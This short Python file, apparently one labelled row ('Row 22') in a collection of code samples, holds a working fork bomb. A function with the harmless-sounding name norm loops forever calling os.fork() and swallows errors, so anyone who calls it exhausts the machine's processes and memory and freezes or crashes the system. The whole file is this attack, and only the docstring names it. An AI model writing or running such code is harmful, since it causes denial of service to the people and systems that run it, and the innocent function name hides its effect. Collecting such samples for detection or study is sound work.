"""Row 22: a fork bomb."""

# %% norm
import os


def norm(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
